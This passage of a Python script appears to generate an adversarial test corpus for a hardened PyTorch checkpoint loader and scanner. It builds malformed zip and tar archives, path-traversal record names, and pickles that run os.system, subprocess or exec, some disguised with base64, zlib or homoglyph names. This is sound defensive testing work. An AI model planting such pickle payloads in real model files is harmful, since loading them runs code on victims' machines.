        scan=3, comment="CVE-2025-1945 class")
for k, kw, detail in [("name", dict(cd_name="archive/data.pkx"), "the archive has no archive/data.pkl record"),
                      ("local_name", dict(name="archive/data.pkx", cd_name="archive/data.pkl"),
                       "names another record than the central directory does"),
                      ("local_method", dict(lmethod=8), "the local header says flags 0x0, method 8"),
                      ("local_flags", dict(lflag=0x800), "the local header says flags 0x800"),
                      ("local_crc", dict(lcrc=0x12345678), "the local header says CRC 12345678"),
                      ("local_size", dict(lusize=17), "bytes stored, 17 bytes; the central directory says"),
                      ("descriptor", dict(dd=True, flag=0x8, dd_usize=99), "data descriptor at offset")]:
    es = std_entries()
    es[0].update(kw)
    add("E13_%s.pt" % k, rawzip(es), "E", MAL, detail, scan=3,
        comment="+ the local header (and data descriptor) must repeat the central directory: two zip readers must see one file")
es = std_entries()
es[0]["crc"] = 0xDEADBEEF
add("E15_crc_mismatch.pt", rawzip(es), "E", "loads", checks=W4, scan=0,
    comment="CRCs are not verified, as in torch (miniz without CRC checks): a mapped load reads no tensor byte, and loader and scanner read the same bytes. adversarial.md: ArchiveFormat")
evil = pkl(call(g("os", "system"), s("id")))
add("E16a_duplicate_first_evil.pt", rawzip([dict(name="archive/data.pkl", data=evil)] + std_entries()), "E", MAL,
    "record 'archive/data.pkl' appears twice", scan=3)
add("E16b_duplicate_last_evil.pt", rawzip(std_entries() + [dict(name="archive/data.pkl", data=evil)]), "E", MAL,
    "record 'archive/data.pkl' appears twice", scan=3)
add("E18a_first_entry_no_folder.pt", rawzip([dict(name="data.pkl", data=BASE_PKL)] + std_entries()), "E", MAL,
    "file in archive is not in a subdirectory: data.pkl", scan=3)
es = std_entries()
es[2]["name"] = "data/0"
add("E18b_record_outside_root.pt", rawzip(es), "E", MAL, "record 'data/0' is outside the archive's root folder", scan=3)
add("E19a_prefix_junk.pt", rawzip(std_entries(), prefix=b"J" * 64), "E", MAL, "starts with 4a 4a", scan=3,
    comment="format decided at offset 0, as torch does")
add("E19b_suffix_payload.pt", ckpt() + pkl(call(g("os", "system"), s("id"))), "E", MAL,
    "bytes follow the end of central directory record", scan=3)
add("E19c_legacy_then_zip.pt", legacy(BASE_LEGACY_MAIN, {"0": RAW}) + ckpt(), "E", MAL,
    "bytes follow the last storage block", scan=0)
add("E20a_eocd_count_low.pt", rawzip(std_entries(), eocd_count=1), "E", MAL,
    "the central directory holds more than the 1 entries", scan=3)
add("E20b_cd_offset_shifted.pt", rawzip(std_entries(), cd_offset_delta=-8), "E", MAL, "central directory", scan=3)
fake = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, 46, 0, 0)
add("E20c_fake_eocd_in_comment.pt", rawzip(std_entries(), comment=fake), "E", MAL,
    "more than one end of central directory record", scan=3)
add("E20d_comment_length_past_end.pt", rawzip(std_entries(), comment_len=500), "E", MAL,
    "no end of central directory record ends at the end of the file", scan=3)
for k, name, detail in [("traverse", "archive/../../../tmp/x", "illegal record name 'archive/../../../tmp/x'"),
                        ("abs", "/archive/data.pkl", "illegal record name '/archive/data.pkl'"),
                        ("bslash", "archive\\data.pkl", "illegal record name 'archive\\data.pkl'"),
                        ("drive", "C:archive/data.pkl", "illegal record name 'C:archive/data.pkl'"),
                        ("nul", "archive/data.pkl\x00.txt", "illegal record name 'archive/data.pkl\\0.txt'"),
                        ("dot", "./archive/data.pkl", "illegal record name './archive/data.pkl'"),
                        ("dslash", "archive//data.pkl", "illegal record name 'archive//data.pkl'"),
                        ("case", "ARCHIVE/data.pkl", "record 'archive/byteorder' is outside the archive's root folder 'ARCHIVE/'"),
                        ("dir", "archive/data.pkl/", "the archive has no archive/data.pkl record")]:
    es = std_entries()
    es[0]["name"] = name
    add("E22_%s.pt" % k, rawzip(es), "E", MAL, detail, scan=3,
        comment="names are never normalised; a name that could mean a path elsewhere is refused")
es = std_entries()
es[0]["name"] = b"archive/\xff.pkl"
add("E22_bad_utf8_name.pt", rawzip(es), "E", MAL, "not valid UTF-8", scan=3)
for k, kw, detail in [("csize", dict(csize=10 ** 9, cd_csize=10 ** 9), "STORED record claims 16 bytes but occupies 1000000000"),
                      ("off", dict(lfh_offset=10 ** 9), "lies outside"),
                      ("neg", dict(lfh_offset=0x80000000), "lies outside"),
                      ("stored", dict(cd_usize=17), "STORED record claims 17 bytes but occupies 16"),
                      ("big", dict(cd_csize=0x80000000, cd_usize=0x80000000), "lies outside")]:
    es = std_entries()
    es[2].update(kw)
    add("E23_%s.pt" % k, rawzip(es), "E", MAL, detail, scan=3,
        comment="header numbers are unsigned, parsed as long and checked against the file before use")
es = std_entries()
es[0].update(method=8, raw=deflate(BASE_PKL))
add("E24_deflate.pt", rawzip(es), "E", "loads", checks=W4, scan=0)
for m in (9, 12, 14, 93, 99):
    es = std_entries()
    es[0]["method"] = m
    add("E24_method_%d.pt" % m, rawzip(es), "E", UNSUP, "compression method %d" % m, scan=3)
es = std_entries(records={"0": b"/etc/passwd"})
es[2]["attr"] = 0xA1FF0000
add("E26_symlink_entry.pt", rawzip(es), "E", MAL, "record size (11 bytes) does not match expected size (16 bytes",
    scan=0, comment="an entry is bytes; links are never followed")
for k, v, outcome, detail in [("abc", b"abc", MAL, "Couldn't parse the version 'abc'"),
                              ("neg", b"-1", UNSUP, "version -1"),
                              ("huge", b"9" * 20, MAL, "Couldn't parse the version"),
                              ("prefix", b"3garbage", MAL, "Couldn't parse the version '3garbage'"),
                              ("future", b"99\n", UNSUP, "version 99")]:
    es = std_entries()
    es[-1]["data"] = v
    add("E27_version_%s.pt" % k, rawzip(es), "E", outcome, detail, scan=0)
add("E27_noversion.pt", rawzip(std_entries()[:-1]), "E", MAL, "failed locating file version", scan=0)
for k, v in {"zero": b"0", "neg": b"-64", "huge": b"9" * 20}.items():
    add("E27_align_%s.pt" % k, ckpt(BASE_PKL, extra={"archive/.format_version": b"1", "archive/.storage_alignment": v}),
        "E", "loads", checks=W4, scan=0, comment="record offsets come from the headers, never from .storage_alignment")
add("E28_legacy_magic.pt", legacy(BASE_LEGACY_MAIN, {"0": RAW}, magic=MAGIC + 1), "E", MAL, "Invalid magic number",
    scan=0)
add("E28_legacy_proto.pt", legacy(BASE_LEGACY_MAIN, {"0": RAW}, proto_ver=1002), "E", UNSUP,
    "Invalid protocol version: 1002", scan=0)
add("E28_legacy_short.pt", pkl(n(MAGIC)) + pkl(n(1001)), "E", MAL, "it ended before STOP", scan=3)
es = std_entries()
es[0].update(flag=0x1, raw=b"\x00" * 12 + BASE_PKL, csize=len(BASE_PKL) + 12)
add("E29_encrypted.pt", rawzip(es), "E", UNSUP, "encrypted", scan=3)
add("E30_proto0_in_txt.pt", ckpt(BASE_PKL, extra={"archive/notes.txt": b"cos\nsystem\n(S'id'\ntR."}), "E", "loads",
    checks=W4, scan=0, comment="only <root>/data.pkl is ever parsed")
add("E31_tar_member_outside.pt",
    tar([("sys_info", pkl(b"N")), ("pickle", pkl(s("x"))), ("tensors", pkl(n(0))), ("storages", pkl(n(0)) + pkl(b"]"))],
        size_override={"storages": 10 ** 9}), "E", MAL, "tar", scan=3,
    comment="+ a tar member's size claim past the end of the file")
add("E31b_tar_duplicate_member.pt",
    tar([("sys_info", pkl(b"N")), ("pickle", pkl(s("x"))), ("pickle", pkl(call(g("os", "system"), s("id")))),
         ("tensors", pkl(n(0))), ("storages", pkl(n(0)) + pkl(b"]"))]), "E", MAL, "tar member 'pickle' appears twice",
    scan=3)
add("E31c_tar_trailing_in_member.pt",
    tar([("sys_info", pkl(b"N")), ("pickle", pkl(s("x"))), ("tensors", pkl(n(0)) + b"junk"),
         ("storages", pkl(n(0)) + pkl(b"]"))]), "E", MAL, "4 bytes follow the member's last record", scan=0)

# Record names and case (issue 12, class 1): torch finds zip records with miniz's mz_zip_reader_locate_file, which
# ignores ASCII case, so names equal but for case are one record to torch (it reads whichever its binary search meets)
add("E40a_case_twin_data_pkl.pt", rawzip(std_entries() + [dict(name="archive/DATA.PKL", data=evil)]), "E", MAL,
    "differ only in case", scan=3,
    comment="+ archive/data.pkl and archive/DATA.PKL: torch may run the other pickle; refused, in the loader and the scanner")
add("E40b_case_twin_storage.pt",
    rawzip(std_entries() + [dict(name="archive/DATA/0", data=struct.pack("<4f", 9, 9, 9, 9))]), "E", MAL,
    "differ only in case", scan=3,
    comment="+ data/0 and DATA/0: which one torch 2.6 reads depends on where its binary search lands; refused")
add("E40c_all_names_upper_case.pt", rawzip([dict(e, name=e["name"].upper()) for e in std_entries()]), "E", "loads",
    checks=W4, scan=0, comment="+ ARCHIVE/DATA.PKL, ARCHIVE/DATA/0, ARCHIVE/VERSION: torch finds each, and so do we")
add("E40d_data_pkl_upper_case.pt",
    rawzip([dict(e, name="archive/DATA.PKL") if e["name"] == "archive/data.pkl" else e for e in std_entries()]),
    "E", "loads", checks=W4, scan=0, comment="+ only data.pkl spelled DATA.PKL: torch reads it as data.pkl")
add("E40e_root_case_differs.pt",
    rawzip([dict(e, name="ARCHIVE/data/0") if e["name"] == "archive/data/0" else e for e in std_entries()]),
    "E", MAL, "outside the archive's root folder", scan=3,
    comment="+ torch 2.6 checks the root folder exactly ('file in archive is not in a subdirectory archive/')")

# Every pickle of a 0.1.x tar (issue 12, class 2): torch's full loader unpickles each record of storages and tensors
add("E41a_tar_tensors_member_exploit.pt",
    tar([("sys_info", pkl(b"N")), ("pickle", pkl(b"P1\n")),
         ("tensors", pkl(n(1)) + pkl(call(g("os", "system"), s("id")))),
         ("storages", pkl(n(0)) + pkl(b"]"))]), "E", UG, "whose module os is blocked", scan=3,
    comment="+ the exploit is a record of the tensors member, which torch.load(weights_only=False) unpickles")
add("E41b_tar_storages_views_exploit.pt",
    tar([("sys_info", pkl(b"N")), ("pickle", pkl(b"P1\n")), ("tensors", pkl(n(0))),
         ("storages", pkl(n(1)) + pkl(tup(n(1000), s("cpu"), g("torch", "FloatStorage"))) + struct.pack("<q", 4) + F4
          + pkl(call(g("subprocess", "check_output"), s("id"))))]), "E", UG, "subprocess.check_output", scan=3,
    comment="+ the exploit is the storage-views pickle after the raw bytes of a storage: the scanner skips those bytes")
add("E41c_tar_sys_info_exploit.pt",
    tar([("sys_info", pkl(call(g("posix", "system"), s("id")))), ("pickle", pkl(b"P1\n")), ("tensors", pkl(n(0))),
         ("storages", pkl(n(0)) + pkl(b"]"))]), "E", MAL, "persistent id", scan=3,
    comment="+ sys_info is not read by the loader; the scanner reads it anyway and calls the file dangerous")

# F: scanner evasion, decoys and positive controls --------------------------------------------------------------------

blob_inner = pkl(call(g("os", "system"), s("id"))).decode("latin1")
blob = call(g("_codecs", "encode"), s(blob_inner), s("latin1"))
add("F02_dangerous_looking_data.pt",
    ckpt(pkl(odict(("w", tensor(pid())), ("cos\nsystem\n", s(SRC)), ("blob", blob)))), "F", "loads",
    checks="tensors=1;str:cos\\nsystem\\n=" + SRC + ";type:blob=bytes", scan=0,
    comment="strings that look like code are data; the bytes value is never parsed")
zc = zlib.compress(SRC.encode())
add("F03a_exec_zlib.pt", ckpt(pkl(call(g("builtins", "exec"), call(g("zlib", "decompress"),
                                                                    b"B" + struct.pack("<I", len(zc)) + zc)), proto=3)),
    "F", UG, "GLOBAL exec was not an allowed global", scan=3)
b64 = __import__("base64").b64encode(pkl(call(g("os", "system"), s("id")))).decode()
add("F03b_pickle_loads_base64.pt", ckpt(pkl(call(g("pickle", "loads"), call(g("base64", "b64decode"), s(b64))))), "F",
    UG, "GLOBAL pickle.loads was not an allowed global", scan=3)
add("F06_name_with_trailing_space.pt", ckpt(pkl(call(b"cos \nsystem\n", s("id")))), "F", UG,
    "GLOBAL os .system was not an allowed global", scan=1,
    comment="+ names are compared exactly: 'os ' is not the blocked 'os', so it is only not allowed (refused); the scanner says it needs allowlisting, never that it is safe")
add("F07_homoglyph_module.pt", ckpt(pkl(call(g("\u043es", "system"), s("id")))), "F", UG,
    "was not an allowed global", scan=1, comment="+ a Cyrillic o: not the blocked module, not allowed either")
add("F08_global_never_called.pt", ckpt(pkl(g("os", "system") + b"0" + odict(("w", tensor(pid()))))), "F", UG,
    "whose module os is blocked", scan=3,
    comment="+ a dangerous global resolved and dropped (POP) is refused at the GLOBAL, whether or not it is called")
add("F09_second_root_decoy.pt", rawzip(std_entries() + [dict(name="decoy/data.pkl", data=pkl(call(g("os", "system"), s("id"))))]),
    "F", MAL, "record 'decoy/data.pkl' is outside the archive's root folder 'archive/'", scan=3,
    comment="+ a second root folder with its own data.pkl: one root only, so no reader can pick the other")
add("F10_stack_global_via_memo_concat.pt",
    ckpt(pkl(short_uni("o") + b"\x94" + short_uni("system") + b"\x94" + g("builtins", "str") + b"\x94"
             + b")R" + b"0" + b"h\x00h\x01\x93" + tup(s("id")) + b"R", proto=4)), "F", UG,
    "GLOBAL str was not an allowed global", scan=1,
    comment="+ STACK_GLOBAL names read back through the memo: the scanner follows the memo and reports o.system as needing allowlisting; the load refuses the first disallowed global")
text_tensor = (b"ctorch._utils\n_rebuild_tensor_v2\n((Vstorage\nctorch\nFloatStorage\nV0\nVcpu\nI4\ntQI0\n(I4\nt(I1\nt"
               b"I00\nccollections\nOrderedDict\n(tRtR")
add("F11_protocol0_text.pt", ckpt(b"ccollections\nOrderedDict\n(tRVw\n" + text_tensor + b"s."), "F", "loads", checks=W4,
    scan=0, comment="+ positive control: a protocol 0 (text) pickle of a state dict")


def torch_like_zip(root, records, data_pkl):
    """STORED records with data descriptors and 'FB' padding to 64-byte boundaries, as torch writes them."""
    es = []
    pos = 0
    for name, data in [("data.pkl", data_pkl)] + [("data/%s" % k, v) for k, v in records.items()] + [("version", b"3\n")]:
        full = "%s/%s" % (root, name)
        start = pos + 30 + len(full) + 4
        pad = -start % 64
        es.append(dict(name=full, data=data, flag=0x808, dd=True, extra=b"FB" + struct.pack("<H", pad) + b"Z" * pad))
        pos = start + pad + len(data) + 16
    return rawzip(es)


memo_pkl = (b"\x80\x02" + OD + b"q\x00)Rq\x01(" + s("w") + b"q\x02" + g("torch._utils", "_rebuild_tensor_v2")
            + b"q\x03((" + s("storage") + b"q\x04" + g("torch", "FloatStorage") + b"q\x05" + s("0") + s("cpu") + b"K\x04tq\x06Q"
            + b"K\x00K\x02K\x02\x86q\x07K\x02K\x01\x86q\x08\x89h\x00)Rq\x09tq\x0aRq\x0b"
            + s("b") + b"h\x03((h\x04h\x05" + s("1") + s("cpu") + b"K\x02tQK\x00K\x02\x85K\x01\x85\x88h\x00)RtR"
            + b"u}q\x0c" + s("_metadata") + b"h\x00)Rq\x0d(" + s("") + b"}" + s("version") + b"K\x01sus" + b"b.")
add("F04a_torch_like_zip.pt", torch_like_zip("model", {"0": F4, "1": struct.pack("<2f", 0.5, -0.5)}, memo_pkl), "F",
    "loads", checks="tensors=2;T:w=1,2,3,4;shape:w=2,2;T:b=0.5,-0.5", scan=0,
    comment="positive control with what torch writes: memo BINPUTs, TUPLE2, _metadata BUILD, FB padding, data descriptors")
add("F04b_legacy_stream.pt", legacy(odict(("w", tensor(lpid())), ("v", tensor(lpid(view=("v", 1, 2)), size=(2,)))),
                                    {"0": RAW}), "F", "loads", checks="tensors=2;T:w=1,2,3,4;T:v=2,3", scan=0,
    comment="positive control: the legacy stream with a storage view")
add("F04c_tar.pt", tar_ckpt(pkl(odict(("w", b"P1\n"), ("t", b"P2\n"))),
                            tensors=[(1, 1000, 1, (4,), (1,), 0), (2, 1000, 2, (2, 2), (1, 2), 0)]), "F", "loads",
    checks="tensors=2;T:w=1,2,3,4;T:t=1,3,2,4", scan=0, comment="positive control: the 0.1.x tar format, written by hand")
p4 = (b"\x80\x04\x95" + struct.pack("<Q", 0) + short_uni("collections") + b"\x94" + short_uni("OrderedDict") + b"\x94\x93\x94)R\x94"
      + short_uni("w") + b"\x94" + short_uni("torch._utils") + short_uni("_rebuild_tensor_v2") + b"\x93\x94"
      + b"((" + short_uni("storage") + short_uni("torch") + short_uni("FloatStorage") + b"\x93" + short_uni("0")
      + short_uni("cpu") + b"K\x04t\x94QK\x00K\x04\x85K\x01\x85\x89h\x02)R\x94t\x94R\x94s.")
add("F04d_protocol4.pt", ckpt(p4), "F", "loads", checks=W4, scan=0,
    comment="positive control: protocol 4 (FRAME, MEMOIZE, STACK_GLOBAL, SHORT_BINUNICODE)")
es = std_entries()
for e in es:
    e.update(method=8, raw=deflate(e["data"]), dd=True, flag=0x8)
add("F04e_rezipped_deflated.pt", rawzip(es), "F", "loads", checks=W4, scan=0,
    comment="positive control: every record DEFLATED with data descriptors, as zip -r writes")
add("F04f_cuda_location_parameter.pt",
    ckpt(pkl(odict(("p", call(g("torch._utils", "_rebuild_parameter"),
                              tensor(tup(s("storage"), g("torch", "FloatStorage"), s("0"), s("cuda:1"), n(4)) + b"Q"),
                              b"\x88", empty_od()))))), "F", "loads", checks="tensors=1;T:p=1,2,3,4", scan=0)


def write(folder):
    os.makedirs(folder, exist_ok=True)
    for name in os.listdir(folder):
        if name.endswith(".pt") and name not in DATA:
            os.remove(os.path.join(folder, name))
    for name, data in DATA.items():
        with open(os.path.join(folder, name), "wb") as f:
            f.write(data)
    with open(os.path.join(folder, "expected.tsv"), "w", encoding="utf-8", newline="\n") as out:
        out.write("file\tcategory\toutcome\tmessage\tchecks\tlimits\tscan\tcomment\n")
        for row in CASES:
            out.write("\t".join(row) + "\n")
    counts = {}
    for row in CASES:
        counts[row[1]] = counts.get(row[1], 0) + 1
    print("%d files: %s; %d bytes" % (len(CASES), ", ".join("%s %d" % kv for kv in sorted(counts.items())),
                                      sum(len(d) for d in DATA.values())))


if __name__ == "__main__":
    # --out DIR writes elsewhere (AdversarialCorpusTest checks that the committed files are reproduced exactly)
    write(sys.argv[sys.argv.index("--out") + 1] if "--out" in sys.argv else HERE)
